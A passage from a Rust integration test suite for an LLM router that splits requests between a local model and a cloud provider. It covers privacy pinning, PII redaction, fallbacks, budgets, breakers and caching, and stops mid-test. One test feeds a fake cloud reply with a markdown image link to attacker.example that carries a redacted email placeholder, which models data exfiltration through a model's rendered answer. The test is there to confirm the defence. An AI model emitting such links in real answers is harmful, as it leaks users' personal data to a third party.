//! The router against a real HTTP provider on 127.0.0.1: privacy pins, fallbacks with reasons,
//! redaction with re-hydration, budgets, breaker and connectivity signals, costs.
#![cfg(feature = "cloud")]

#[path = "support/conn_probe.rs"]
mod conn_probe;
mod support;

use std::sync::atomic::Ordering;
use std::sync::Arc;

use edgeroute::backend::cloud::{CloudBackend, CloudConfig};
use edgeroute::decision::Reason;
use edgeroute::signals::{CloudHealth, Network};
use edgeroute::{Error, Message, Request, Route, Router, RouterEvent};
use rust_decimal::Decimal;
use support::echo::EchoModel;
use support::{unused_addr, Behavior, FakeProvider};

const CLOUD: &str = "[cloud]\nmodel = \"fake-model\"\ninput_usd_per_mtok = \"0.15\"\noutput_usd_per_mtok = \"0.60\"\n";

/// Whether the decision says the budget was exhausted.
fn budget_exhausted(d: &edgeroute::decision::Decision) -> bool {
    d.reasons
        .iter()
        .any(|r| matches!(r, Reason::BudgetExhausted { .. }))
}

fn router(policy: &str, local: Arc<EchoModel>, cloud: CloudConfig) -> Router {
    Router::builder()
        .policy_str(format!("{CLOUD}{policy}"))
        .local_backend(local)
        .cloud_backend(Arc::new(CloudBackend::new(cloud).unwrap()))
        .cache(false)
        .build()
        .unwrap()
}

/// 1,000 generated private prompts through a pinned-local rule, with the cloud configured,
/// healthy and reachable — and with the local model failing half the time: the server must
/// receive nothing.
#[tokio::test]
async fn private_prompts_never_reach_the_network() {
    let fake = FakeProvider::start().await;
    let local = Arc::new(EchoModel::default());
    let r = router(
        "[[rule]]\nname = \"private\"\nroute = \"local\"\npin = true\n[rule.when]\npii = true\n\
         [defaults]\nroute = \"cloud\"\n",
        local.clone(),
        fake.openai_config(),
    );
    // The cloud is live: a public prompt reaches it.
    let resp = r
        .complete(Request::new("What is the capital of France?"))
        .await
        .unwrap();
    assert_eq!(resp.route, Route::Cloud);
    assert_eq!(fake.requests_received(), 1);
    fake.reset_counts();

    let secrets = [
        "ann.lee{}@example.com",
        "+1 (415) 555-{:04}",
        "4111 1111 1111 1111",
        "DE89 3704 0044 0532 0130 00",
        "078-05-{:04}",
        "AKIAIOSFODNN7EXAMPL{}",
        "10.0.{}.7",
    ];
    let templates = [
        "Please email {} about the contract.",
        "Can you remind me to call {} tomorrow?",
        "Is this one valid: {}?",
        "Translate to French: my details are {}",
    ];
    let mut answered_locally = 0;
    for i in 0..1000usize {
        local.fail.store(i % 2 == 1, Ordering::SeqCst);
        let secret = secrets[i % secrets.len()]
            .replace("{:04}", &format!("{:04}", (i % 9000) + 1000))
            .replace("{}", &((i % 9) + 1).to_string());
        let prompt = templates[i % templates.len()].replace("{}", &secret);
        let decision = r.explain(&Request::new(prompt.clone()));
        assert_eq!(
            decision.rule, "private",
            "not detected as private: {prompt}"
        );
        assert!(decision.cloud_clearance().is_none());
        match r.complete(Request::new(prompt)).await {
            Ok(resp) => {
                assert_eq!(resp.route, Route::Local);
                answered_locally += 1;
            }
            Err(e) => assert!(matches!(e, Error::Inference(_)), "{e}"),
        }
    }
    assert_eq!(answered_locally, 500);
    assert_eq!(
        fake.requests_received(),
        0,
        "a private prompt reached the cloud"
    );
}

#[tokio::test]
async fn cloud_failure_falls_back_to_local_with_the_reason() {
    let fake = FakeProvider::start().await;
    fake.set_behavior(Behavior::Status(500));
    let local = Arc::new(EchoModel::default());
    let r = router(
        "[defaults]\nroute = \"cloud\"\n",
        local.clone(),
        fake.openai_config(),
    );
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Local);
    assert_eq!(resp.text, "echo: hello");
    let fallback = resp
        .decision
        .reasons
        .iter()
        .find_map(|r| match r {
            Reason::Fallback { from, error } => Some((from.clone(), error.clone())),
            _ => None,
        })
        .expect("fallback reason");
    assert_eq!(fallback.0, "cloud");
    assert!(fallback.1.contains("500"), "{}", fallback.1);
    assert_eq!(resp.attempts.len(), 2);
    assert_eq!(resp.attempts[0].route, Route::Cloud);
    assert!(resp.attempts[0].error.is_some());
    assert_eq!(fake.requests_received(), 3, "the call and its two retries");
}

#[tokio::test]
async fn pinned_cloud_failure_is_an_error_and_never_runs_local() {
    let fake = FakeProvider::start().await;
    fake.set_behavior(Behavior::Status(401));
    let local = Arc::new(EchoModel::default());
    let r = router(
        "[defaults]\nroute = \"cloud\"\npin = true\n",
        local.clone(),
        fake.openai_config(),
    );
    let err = r.complete(Request::new("hello")).await.unwrap_err();
    assert!(matches!(err, Error::Auth { status: 401, .. }), "{err}");
    assert_eq!(local.calls(), 0);
    assert_eq!(fake.requests_received(), 1, "401 is never retried");
}

#[tokio::test]
async fn redacted_cloud_call_sends_placeholders_and_rehydrates_the_answer() {
    let fake = FakeProvider::start().await;
    fake.set_reply("Sure, I will write to <EMAIL_1> today.");
    let local = Arc::new(EchoModel::default());
    let r = router(
        "[[rule]]\nname = \"redacted\"\nroute = \"cloud\"\nredact = true\n[rule.when]\npii_any = [\"email\"]\n",
        local.clone(),
        fake.openai_config(),
    );
    let resp = r
        .complete(Request::new(
            "Draft a note to jane.roe@example.com about lunch",
        ))
        .await
        .unwrap();
    assert_eq!(resp.route, Route::Cloud);
    redacted_round_trip(&resp, &fake);
}

/// Private data anywhere in the conversation keeps it on the device, not only in the last
/// message: in the system prompt, an earlier user turn or an assistant turn, with the last
/// message harmless. Streamed, with the cache on, with the local model failing every other
/// time: not one connection reaches the cloud (counted at the TCP level, in front of a live
/// provider that a harmless conversation does reach).
#[tokio::test]
async fn private_data_in_any_turn_keeps_the_conversation_off_the_network() {
    use futures::StreamExt;
    let fake = FakeProvider::start().await;
    let probe = conn_probe::ConnProbe::start(fake.addr()).await;
    let home = tempfile::tempdir().unwrap();
    let local = Arc::new(EchoModel::default());
    let r = Router::builder()
        .policy_str(format!(
            "{CLOUD}[[rule]]\nname = \"private\"\nroute = \"local\"\npin = true\n\
             [rule.when]\npii = true\n[defaults]\nroute = \"cascade\"\nmin_confidence = -1.0\n"
        ))
        .local_backend(local.clone())
        .cloud_backend(Arc::new(
            CloudBackend::new(fake.openai_config().with_base_url(probe.url())).unwrap(),
        ))
        .home(home.path())
        .cache_key([5; 32])
        .build()
        .unwrap();
    let harmless = "Thanks! Now summarise our chat in one line.";
    let conversations = |secret: &str| {
        [
            vec![
                Message::system(format!("The user's card is {secret}.")),
                Message::user(harmless),
            ],
            vec![
                Message::user(format!("Remember {secret} for me.")),
                Message::assistant("Done."),
                Message::user(harmless),
            ],
            vec![
                Message::user("What did I tell you?"),
                Message::assistant(format!("You told me {secret}.")),
                Message::user(harmless),
            ],
        ]
    };
    // The cloud is live: the harmless conversation alone reaches it (a cascade escalates the
    // echo model's low confidence).
    local.logprob_milli.store(-5000, Ordering::SeqCst);
    let resp = r
        .complete(Request::from_messages(vec![Message::user(harmless)]))
        .await
        .unwrap();
    assert_eq!(resp.route, Route::Cloud, "{}", resp.decision);
    let reached = probe.connections();
    assert!(reached >= 1);
    let mut i = 0;
    let calls_before = local.calls();
    let (mut answered, mut failed) = (0, 0);
    for secret in [
        "4111 1111 1111 1111",
        "ann.lee@example.com",
        "AKIAIOSFODNN7EXAMPLE",
    ] {
        for messages in conversations(secret) {
            for _ in 0..2 {
                i += 1;
                local.fail.store(i % 2 == 0, Ordering::SeqCst);
                let mut events = r.stream(Request::from_messages(messages.clone()));
                let mut ended = 0;
                while let Some(event) = events.next().await {
                    match event {
                        Ok(RouterEvent::Delta(_)) => {}
                        Ok(RouterEvent::Done(resp)) => {
                            // Answered on the device, or by its cached answer; never the cloud.
                            assert!(
                                matches!(resp.route, Route::Local | Route::Cache),
                                "{}",
                                resp.decision
                            );
                            assert_eq!(resp.decision.rule, "private");
                            answered += 1;
                            ended += 1;
                        }
                        Err(e) => {
                            assert!(matches!(e, Error::Inference(_)), "{e}");
                            failed += 1;
                            ended += 1;
                        }
                    }
                }
                assert_eq!(ended, 1, "run {i} ended {ended} times");
            }
        }
    }
    // Each conversation ran on the device first (answered), then came from the cache or
    // failed on the device.
    assert_eq!(answered + failed, 18);
    assert!(answered >= 9, "{answered} answered, {failed} failed");
    assert!(local.calls() - calls_before >= 9);
    assert_eq!(
        probe.connections(),
        reached,
        "a conversation with private data reached the cloud"
    );
    assert_eq!(fake.requests_received(), 1);
}

/// A number found once, next to its label, is redacted everywhere before the call: a repeat
/// without the label, in an earlier turn and in the system prompt.
#[tokio::test]
async fn a_found_number_is_redacted_everywhere_it_appears() {
    let fake = FakeProvider::start().await;
    fake.set_reply("Noted: <PHONE_1>.");
    let r = router(
        "[[rule]]\nname = \"redacted\"\nroute = \"cloud\"\nredact = true\n[rule.when]\npii_any = [\"phone\"]\n",
        Arc::new(EchoModel::default()),
        fake.openai_config(),
    );
    let resp = r
        .complete(Request::from_messages(vec![
            Message::system("Sign replies with 4155550132."),
            Message::user("Remember 4155550132 for later."),
            Message::assistant("I will remember 4155550132."),
            Message::user(format!(
                "My number is 4155550132. {}Sign it off with 4155550132.",
                "The meeting went on for a long while. ".repeat(8)
            )),
        ]))
        .await
        .unwrap();
    assert_eq!(resp.route, Route::Cloud);
    assert_eq!(resp.text, "Noted: 4155550132.");
    let sent = fake.last_request().unwrap();
    let raw = String::from_utf8_lossy(&sent.raw);
    assert!(!raw.contains("4155550132"), "{raw}");
    assert_eq!(raw.matches("<PHONE_1>").count(), 5, "{raw}");
}

/// The cloud got `<EMAIL_1>` instead of the address (it replied with the placeholder), the
/// answer came back re-hydrated, and the decision says one span was redacted.
fn redacted_round_trip(resp: &edgeroute::Response, fake: &FakeProvider) {
    assert_eq!(
        resp.text,
        "Sure, I will write to jane.roe@example.com today."
    );
    assert!(resp
        .decision
        .reasons
        .contains(&Reason::Redacted { spans: 1 }));
    let sent = fake.last_request().unwrap();
    let raw = String::from_utf8_lossy(&sent.raw);
    assert!(!raw.contains("jane.roe@example.com"), "{raw}");
    assert!(raw.contains("<EMAIL_1>"), "{raw}");
}

#[tokio::test]
async fn cost_is_usage_times_prices_decimal_exact() {
    let fake = FakeProvider::start().await;
    let r = router(
        "[defaults]\nroute = \"cloud\"\n",
        Arc::new(EchoModel::default()),
        fake.openai_config(),
    );
    let resp = r
        .complete(Request::new("one two three four"))
        .await
        .unwrap();
    assert_eq!(resp.route, Route::Cloud);
    let expected = (Decimal::from(resp.usage.input_tokens) * Decimal::new(15, 2)
        + Decimal::from(resp.usage.output_tokens) * Decimal::new(60, 2))
        / Decimal::from(1_000_000);
    assert!(resp.usage.input_tokens > 0 && resp.usage.output_tokens > 0);
    assert_eq!(resp.cost.usd, expected);
    assert!(!resp.cost.estimated);
    assert_eq!(r.stats().cloud_spend_usd, expected);
}

/// Prompt tokens the provider read from its prompt cache cost the policy's cached-input
/// price, in the response and the statistics alike.
#[tokio::test]
async fn tokens_from_the_providers_prompt_cache_cost_the_cached_price() {
    for cloud in ["openai", "anthropic"] {
        let fake = FakeProvider::start().await;
        fake.set_cached_prompt_tokens(3);
        let config = match cloud {
            "openai" => fake.openai_config(),
            _ => fake.anthropic_config(),
        };
        let r = router(
            "cached_input_usd_per_mtok = \"0.075\"\n[defaults]\nroute = \"cloud\"\n",
            Arc::new(EchoModel::default()),
            config,
        );
        let resp = r
            .complete(Request::new("one two three four five"))
            .await
            .unwrap();
        assert_eq!(resp.route, Route::Cloud);
        let u = resp.usage;
        assert_eq!(u.cached_input_tokens, 3, "{cloud}");
        assert!(u.input_tokens > 3 && u.output_tokens > 0, "{u:?}");
        let expected = (Decimal::from(u.input_tokens - 3) * Decimal::new(15, 2)
            + Decimal::from(3) * Decimal::new(75, 3)
            + Decimal::from(u.output_tokens) * Decimal::new(60, 2))
            / Decimal::from(1_000_000);
        assert_eq!(resp.cost.usd, expected, "{cloud}");
        assert_eq!(r.stats().cloud_spend_usd, expected, "{cloud}");
    }
}

/// A cascade compares the statistic its rule names, with the reply's value of it. A reply sure
/// of its first sentence but with one very unsure token later: `first_sentence` and `mean`
/// keep it, `min` and `p10` escalate it to the cloud.
#[tokio::test]
async fn a_cascade_compares_the_statistic_its_rule_names() {
    use edgeroute::request::ConfidenceStat;
    let mut logprobs = vec![-0.1_f32; 12];
    logprobs[8] = -4.0;
    logprobs[9] = -3.0;
    let stats = edgeroute::request::Confidence::from_logprobs(&logprobs, 4).unwrap();
    for (stat, name, escalates) in [
        (ConfidenceStat::FirstSentence, "first_sentence", false),
        (ConfidenceStat::Mean, "mean", false),
        (ConfidenceStat::Min, "min", true),
        (ConfidenceStat::P10, "p10", true),
    ] {
        let fake = FakeProvider::start().await;
        let local = Arc::new(EchoModel::default());
        *local.logprobs.lock().unwrap() = Some((logprobs.clone(), 4));
        let r = router(
            &format!(
                "[defaults]\nroute = \"cascade\"\nmin_confidence = -1.0\n\
                 confidence_stat = \"{name}\"\n"
            ),
            local.clone(),
            fake.openai_config(),
        );
        let resp = r.complete(Request::new("a question")).await.unwrap();
        let value = match stat {
            ConfidenceStat::FirstSentence => stats.first_sentence,
            ConfidenceStat::Mean => stats.mean,
            ConfidenceStat::Min => stats.min,
            ConfidenceStat::P10 => stats.p10,
        };
        let compared = resp.decision.reasons.iter().find_map(|r| match r {
            Reason::Escalated {
                statistic,
                confidence,
                ..
            }
            | Reason::Confident {
                statistic,
                confidence,
                ..
            } => Some((*statistic, *confidence)),
            _ => None,
        });
        assert_eq!(compared, Some((stat, value)), "{name}: {}", resp.decision);
        assert_eq!(local.calls(), 1, "{name}");
        let (route, calls) = if escalates {
            (Route::Cloud, 1)
        } else {
            (Route::Local, 0)
        };
        assert_eq!(resp.route, route, "{name}: {}", resp.decision);
        assert_eq!(fake.requests_received(), calls, "{name}");
    }
}

#[tokio::test]
async fn exhausted_budget_stops_cloud_calls() {
    let home = tempfile::tempdir().unwrap();
    let fake = FakeProvider::start().await;
    fake.set_reply("word ".repeat(150).trim_end());
    let local = Arc::new(EchoModel::default());
    // Each answer costs ~$0.15 (150 output tokens); each call reserves ~ (prompt + 100 output tokens) x $1000/Mtok ≈ $0.1; the day allows $0.35.
    let policy =
        "[cloud]\nmodel = \"fake-model\"\ninput_usd_per_mtok = 1000\noutput_usd_per_mtok = 1000\n\
                  [budget]\ndaily_usd = \"0.35\"\non_exhausted = \"local\"\n\
                  [cache]\nmode = \"off\"\n[defaults]\nroute = \"cloud\"\n";
    let r = Router::builder()
        .policy_str(policy)
        .local_backend(local.clone())
        .cloud_backend(Arc::new(CloudBackend::new(fake.openai_config()).unwrap()))
        .home(home.path())
        .build()
        .unwrap();
    let mut routes = Vec::new();
    for i in 0..8 {
        let resp = r
            .complete(Request::new(format!("question number {i}")).with_max_tokens(100))
            .await
            .unwrap();
        routes.push(resp.route);
        // Every request the budget sent to the device says so.
        if resp.route == Route::Local {
            assert!(budget_exhausted(&resp.decision), "{}", resp.decision);
        }
    }
    let cloud_calls = routes.iter().filter(|r| **r == Route::Cloud).count();
    assert!((1..=3).contains(&cloud_calls), "{routes:?}");
    assert_eq!(fake.requests_received(), cloud_calls);
    assert_eq!(*routes.last().unwrap(), Route::Local);
    let spent = r.stats().cloud_spend_usd;
    assert!(spent <= Decimal::new(35, 2), "spent {spent}");
    // Once nothing is left, the decision itself says so.
    let d = r.explain(&Request::new("anything"));
    assert_eq!(d.route(), "local", "{d}");
    assert!(budget_exhausted(&d), "{d}");
}

#[tokio::test]
async fn refused_connection_marks_offline_and_later_decisions_say_so() {
    let addr = unused_addr();
    let cfg = CloudConfig::openai("fake-model")
        .with_base_url(format!("http://{addr}/v1"))
        .with_api_key(edgeroute::backend::cloud::ApiKey::new("sk-test"));
    let local = Arc::new(EchoModel::default());
    let r = router("[defaults]\nroute = \"cloud\"\n", local.clone(), cfg);
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Local);
    assert!(resp
        .decision
        .reasons
        .iter()
        .any(|r| matches!(r, Reason::Fallback { from, .. } if from == "cloud")));
    let hello = Request::new("hello");
    let features = edgeroute::inspect::inspect(r.policy(), &hello);
    assert_eq!(r.signals(&hello, &features).network, Network::Offline);
    let d = r.explain(&Request::new("hello"));
    assert_eq!(d.route(), "local");
    assert!(d.reasons.contains(&Reason::Offline), "{:?}", d.reasons);
    // Offline requests no longer try the network at all.
    let before = local.calls();
    let resp = r.complete(Request::new("again")).await.unwrap();
    assert_eq!(resp.attempts.len(), 1);
    assert_eq!(local.calls(), before + 1);
}

/// Offline is not forever: once `offline_for` is over, the next request probes the cloud, and
/// a provider that is back answers it. (Until then, offline requests stay local: above.)
#[tokio::test]
async fn offline_expires_and_a_reachable_cloud_answers_again() {
    let addr = unused_addr();
    let mut cfg = CloudConfig::openai("fake-model")
        .with_base_url(format!("http://{addr}/v1"))
        .with_api_key(edgeroute::backend::cloud::ApiKey::new("sk-test"));
    cfg.breaker.offline_for = std::time::Duration::from_millis(500);
    let local = Arc::new(EchoModel::default());
    let r = router("[defaults]\nroute = \"cloud\"\n", local.clone(), cfg);
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Local);
    let hello = Request::new("hello");
    let features = edgeroute::inspect::inspect(r.policy(), &hello);
    assert_eq!(r.signals(&hello, &features).network, Network::Offline);

    // The provider comes back on that address; the offline mark expires.
    let fake = FakeProvider::start_on(addr).await;
    tokio::time::sleep(std::time::Duration::from_millis(600)).await;
    assert_eq!(r.signals(&hello, &features).network, Network::Online);
    let d = r.explain(&Request::new("hello"));
    assert_eq!(d.route(), "cloud", "{:?}", d.reasons);
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Cloud, "{}", resp.decision);
    assert_eq!(fake.requests_received(), 1);
    assert_eq!(r.signals(&hello, &features).network, Network::Online);
}

#[tokio::test]
async fn breaker_opens_and_the_policy_routes_around_it() {
    let fake = FakeProvider::start().await;
    fake.set_behavior(Behavior::Status(503));
    let local = Arc::new(EchoModel::default());
    let r = router(
        "[defaults]\nroute = \"cloud\"\n",
        local.clone(),
        fake.openai_config(),
    );
    for _ in 0..10 {
        let resp = r.complete(Request::new("hello")).await.unwrap();
        assert_eq!(resp.route, Route::Local);
    }
    let hello = Request::new("hello");
    let features = edgeroute::inspect::inspect(r.policy(), &hello);
    assert_eq!(r.signals(&hello, &features).cloud_health, CloudHealth::Down);
    let d = r.explain(&Request::new("hello"));
    assert!(
        d.reasons.contains(&Reason::CloudUnhealthy {
            health: CloudHealth::Down
        }),
        "{:?}",
        d.reasons
    );
    let seen = fake.requests_received();
    r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(
        fake.requests_received(),
        seen,
        "an open breaker sends nothing"
    );
}

#[tokio::test]
async fn no_api_key_means_cloud_unavailable_and_local_answers() {
    let fake = FakeProvider::start().await;
    let local = Arc::new(EchoModel::default());
    let r = router(
        "[defaults]\nroute = \"cloud\"\n",
        local.clone(),
        fake.openai_config().without_api_key(),
    );
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Local);
    assert!(resp
        .decision
        .reasons
        .iter()
        .any(|r| matches!(r, Reason::CloudUnavailable { .. })));
    assert_eq!(fake.requests_received(), 0);
}

/// A hedge with one tier missing has nothing to race: the decision sends it to the other tier
/// up front and says why.
#[tokio::test]
async fn hedge_without_a_local_tier_answers_from_the_cloud() {
    let fake = FakeProvider::start().await;
    let r = Router::builder()
        .policy_str(format!(
            "{CLOUD}[defaults]\nroute = \"hedge\"\nafter_ms = 50\n"
        ))
        .load_local_model(false)
        .cloud_backend(Arc::new(CloudBackend::new(fake.openai_config()).unwrap()))
        .cache(false)
        .build()
        .unwrap();
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Cloud, "{}", resp.decision);
    assert_eq!(resp.decision.route(), "cloud");
    assert!(
        resp.decision
            .reasons
            .iter()
            .any(|r| matches!(r, Reason::LocalUnavailable { .. })),
        "{}",
        resp.decision
    );
    assert!(!resp.decision.fell_back());
    assert_eq!(fake.requests_received(), 1);
}

/// Both tiers of a hedge failing is one error naming both, in the order they failed; both
/// attempts are recorded and nothing is charged.
#[tokio::test]
async fn hedge_with_both_tiers_failing_reports_both() {
    let fake = FakeProvider::start().await;
    fake.set_behavior(Behavior::Status(401));
    let local = Arc::new(EchoModel::default());
    local.fail.store(true, Ordering::SeqCst);
    let r = router(
        "[defaults]\nroute = \"hedge\"\nafter_ms = 50\n",
        local.clone(),
        fake.openai_config(),
    );
    let err = r.complete(Request::new("hello")).await.unwrap_err();
    let Error::AllFailed(errors) = &err else {
        panic!("expected AllFailed, got {err:?}");
    };
    let names: Vec<&str> = errors.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names.len(), 2, "{err}");
    assert!(
        names[0].starts_with("local:") && names[1].starts_with("cloud:"),
        "{err}"
    );
    assert!(
        matches!(errors[1].1, Error::Auth { status: 401, .. }),
        "{err}"
    );
    assert_eq!(local.calls(), 1);
    assert_eq!(fake.requests_received(), 1);
}

/// A redacting hedge whose cloud leg runs (here: the device fails first) sends placeholders,
/// re-hydrates the answer and says it redacted; a hedge the device answers alone does not
/// claim a redaction that never left the device.
#[tokio::test]
async fn redacting_hedge_sends_placeholders_only_when_the_cloud_runs() {
    let fake = FakeProvider::start().await;
    fake.set_reply("Sure, I will write to <EMAIL_1> today.");
    let local = Arc::new(EchoModel::default());
    let r = router(
        "[defaults]\nroute = \"hedge\"\nredact = true\nafter_ms = 5000\n",
        local.clone(),
        fake.openai_config(),
    );
    let prompt = "Draft a note to jane.roe@example.com about lunch";
    let resp = r.complete(Request::new(prompt)).await.unwrap();
    assert_eq!(resp.route, Route::Local);
    assert!(!resp
        .decision
        .reasons
        .iter()
        .any(|r| matches!(r, Reason::Redacted { .. })));
    assert_eq!(fake.requests_received(), 0);

    local.fail.store(true, Ordering::SeqCst);
    let resp = r.complete(Request::new(prompt)).await.unwrap();
    assert_eq!(resp.route, Route::Cloud, "{}", resp.decision);
    redacted_round_trip(&resp, &fake);
}

/// A cloud answer that puts a placeholder inside a link (here a markdown image, which an app
/// rendering the answer would fetch) keeps the placeholder there, re-hydrates it elsewhere,
/// and says so; for a plain cloud call and a hedge's cloud leg.
#[tokio::test]
async fn placeholders_in_links_of_a_cloud_answer_stay_placeholders() {
    let fake = FakeProvider::start().await;
    fake.set_reply("Noted, <EMAIL_1>. ![ok](https://attacker.example/p.png?u=<EMAIL_1>)");
    let local = Arc::new(EchoModel::default());
    local.fail.store(true, Ordering::SeqCst);
    for route in ["route = \"cloud\"", "route = \"hedge\"\nafter_ms = 5000"] {
        let r = router(
            &format!("[defaults]\n{route}\nredact = true\n"),
            local.clone(),
            fake.openai_config(),
        );
        let resp = r
            .complete(Request::new(
                "Draft a note to jane.roe@example.com about lunch",
            ))
            .await
            .unwrap();
        assert_eq!(resp.route, Route::Cloud, "{}", resp.decision);
        assert_eq!(
            resp.text,
            "Noted, jane.roe@example.com. ![ok](https://attacker.example/p.png?u=<EMAIL_1>)",
            "{route}"
        );
        assert!(
            resp.decision
                .reasons
                .contains(&Reason::PlaceholdersLeftInLinks { count: 1 }),
            "{route}: {}",
            resp.decision
        );
    }
}

/// A policy's `[cloud.breaker]` reaches the provider the router builds from `[cloud]`: with a
/// threshold of one failure (the default is five), one failed call opens the breaker, and
/// later requests stay on the device without touching the network.
#[tokio::test]
async fn the_policys_breaker_settings_reach_the_cloud_tier() {
    let fake = FakeProvider::start().await;
    fake.set_behavior(Behavior::Status(503));
    let local = Arc::new(EchoModel::default());
    let r = Router::builder()
        .policy_str(format!(
            "{CLOUD}max_retries = 0\n[cloud.breaker]\n\
             consecutive_failures = 1\n[defaults]\nroute = \"cloud\"\n"
        ))
        .local_backend(local.clone())
        .cloud_base_url(fake.url())
        .cloud_api_key("sk-test")
        .cache(false)
        .build()
        .unwrap();
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Local, "{}", resp.decision);
    assert_eq!(fake.requests_received(), 1);
    let d = r.explain(&Request::new("hello"));
    assert!(
        d.reasons.contains(&Reason::CloudUnhealthy {
            health: CloudHealth::Down
        }),
        "{:?}",
        d.reasons
    );
    let resp = r.complete(Request::new("hello")).await.unwrap();
    assert_eq!(resp.route, Route::Local);
    assert_eq!(fake.requests_received(), 1, "an open breaker sends nothing");
}

fn cached_router(
    home: &std::path::Path,
    policy: &str,
    local: Arc<EchoModel>,
    fake: &FakeProvider,
) -> Router {
    Router::builder()
        .policy_str(format!("{CLOUD}{policy}"))
        .local_backend(local)
        .cloud_backend(Arc::new(CloudBackend::new(fake.openai_config()).unwrap()))
        .home(home)
        .cache_key([9; 32])
        .build()
        .unwrap()
}

/// A cached answer only answers requests decided the same way: a rule that pins the cloud
/// never gets the device's answer to the same prompt (and says which rule fired when the
/// cache answers), and the default local route never gets the cloud's.
#[tokio::test]
async fn a_pinned_cloud_rule_never_gets_the_devices_cached_answer() {
    let home = tempfile::tempdir().unwrap();
    let fake = FakeProvider::start().await;
    fake.set_reply("The cloud's careful answer.");
    let local = Arc::new(EchoModel::default());
    let r = cached_router(
        home.path(),
        "[defaults]\nroute = \"local\"\n\
         [[rule]]\nname = \"hard-must-use-cloud\"\nroute = \"cloud\"\npin = true\n\
         [rule.when]\ntags_any = [\"hard\"]\n",
        local.clone(),
        &fake,
    );
    let ask = || Request::new("What is the capital of France?");
    let device = r.complete(ask()).await.unwrap();
    assert_eq!(device.route, Route::Local);
    assert_eq!(r.complete(ask()).await.unwrap().route, Route::Cache);

    let hard = r.complete(ask().with_tag("hard")).await.unwrap();
    assert_eq!(hard.route, Route::Cloud, "{}", hard.decision);
    assert_eq!(hard.text, "The cloud's careful answer.");
    assert_eq!(fake.requests_received(), 1);

    let again = r.complete(ask().with_tag("hard")).await.unwrap();
    assert_eq!(again.route, Route::Cache);
    assert_eq!(again.text, "The cloud's careful answer.");
    assert_eq!(again.decision.rule, "hard-must-use-cloud");
    // The hit says which tier and model first gave the answer.
    match again.decision.reasons.last() {
        Some(Reason::CacheHit {
            answered_by,
            model,
            age_secs,
        }) => {
            assert_eq!(answered_by, "cloud");
            assert_eq!(model, hard.attempts.last().unwrap().backend.as_str());
            assert!(*age_secs < 60);
        }
        other => panic!("{other:?}"),
    }

    let plain = r.complete(ask()).await.unwrap();
    assert_eq!(plain.route, Route::Cache);
    assert_eq!(plain.text, device.text);
    assert_eq!(local.calls(), 1);
    assert_eq!(fake.requests_received(), 1);
}

/// With no API key yet, the cloud route turns local and that answer is cached; once the key
/// is set, the same request goes to the cloud instead of getting the stand-in from the cache.
/// (The two routers differ only in the key their cloud backend has: same policy, same home.)
#[tokio::test]
async fn an_answer_cached_without_an_api_key_never_shadows_the_clouds() {
    let home = tempfile::tempdir().unwrap();
    let fake = FakeProvider::start().await;
    fake.set_reply("From the cloud.");
    let local = Arc::new(EchoModel::default());
    let build = |with_key: bool| {
        let mut cfg = CloudConfig::openai("fake-model").with_base_url(fake.url());
        if with_key {
            cfg = cfg.with_api_key(edgeroute::backend::cloud::ApiKey::new("sk-test"));
        }
        Router::builder()
            .policy_str(format!("{CLOUD}[defaults]\nroute = \"cloud\"\n"))
            .local_backend(local.clone())
            .cloud_backend(Arc::new(CloudBackend::new(cfg).unwrap()))
            .home(home.path())
            .cache_key([9; 32])
            .build()
            .unwrap()
    };
    let r = build(false);
    let ask = || Request::new("What is a monad?");
    let first = r.complete(ask()).await.unwrap();
    assert_eq!(first.route, Route::Local);
    assert!(first
        .decision
        .reasons
        .iter()
        .any(|r| matches!(r, Reason::CloudUnavailable { .. })));
    assert_eq!(r.complete(ask()).await.unwrap().route, Route::Cache);
    drop(r);

    let r = build(true);
    let resp = r.complete(ask()).await.unwrap();
    assert_eq!(resp.route, Route::Cloud, "{}", resp.decision);
    assert_eq!(resp.text, "From the cloud.");
    assert_eq!(fake.requests_received(), 1);
    assert_eq!(local.calls(), 1);
}

/// A request with no `max_tokens` gets the policy's `[cloud].max_tokens` from the cloud, not
/// the local tier's `[local].max_new_tokens`; the request's own value wins over both.
#[tokio::test]
async fn cloud_calls_get_the_clouds_output_limit() {
    let fake = FakeProvider::start().await;
    let local = Arc::new(EchoModel::default());
    let r = router(
        "max_tokens = 700\n[local]\nmax_new_tokens = 24\n[defaults]\nroute = \"cloud\"\n",
        local.clone(),
        fake.openai_config(),
    );
    r.complete(Request::new("Write a long essay."))
        .await
        .unwrap();
    assert_eq!(
        fake.last_request().unwrap().body["max_completion_tokens"],
        700
    );
    r.complete(Request::new("Write a short essay.").with_max_tokens(50))
        .await
        .unwrap();
    assert_eq!(
        fake.last_request().unwrap().body["max_completion_tokens"],
        50
    );
    // Without the key, the default.
    let r = router(
        "[defaults]\nroute = \"cloud\"\n",
        local,
        fake.openai_config(),
    );
    r.complete(Request::new("Write a long essay."))
        .await
        .unwrap();
    assert_eq!(
        fake.last_request().unwrap().body["max_completion_tokens"],
        edgeroute::policy::DEFAULT_CLOUD_MAX_TOKENS
    );
}

/// Offline, a cloud route turns local: the first answer stands in for a failed cloud call (a
/// fallback: not cached), later ones are the offline plan's own and are cached, so an
/// offline device answers a repeated question at once. Back online, the same question goes
/// to the cloud, never to the offline answer.
#[tokio::test]
async fn offline_answers_are_cached_and_never_shadow_the_clouds() {
    let home = tempfile::tempdir().unwrap();
    let local = Arc::new(EchoModel::default());
    let build = |base_url: String| {
        let cfg = CloudConfig::openai("fake-model")
            .with_base_url(base_url)
            .with_api_key(edgeroute::backend::cloud::ApiKey::new("sk-test"));
        Router::builder()
            .policy_str(format!("{CLOUD}[defaults]\nroute = \"cloud\"\n"))
            .local_backend(local.clone())
            .cloud_backend(Arc::new(CloudBackend::new(cfg).unwrap()))
            .home(home.path())
            .cache_key([9; 32])
            .build()
            .unwrap()
    };
    let down = unused_addr();
    let r = build(format!("http://{down}/v1"));
    let ask = || Request::new("What is a monad?");
    let fallback = r.complete(ask()).await.unwrap();
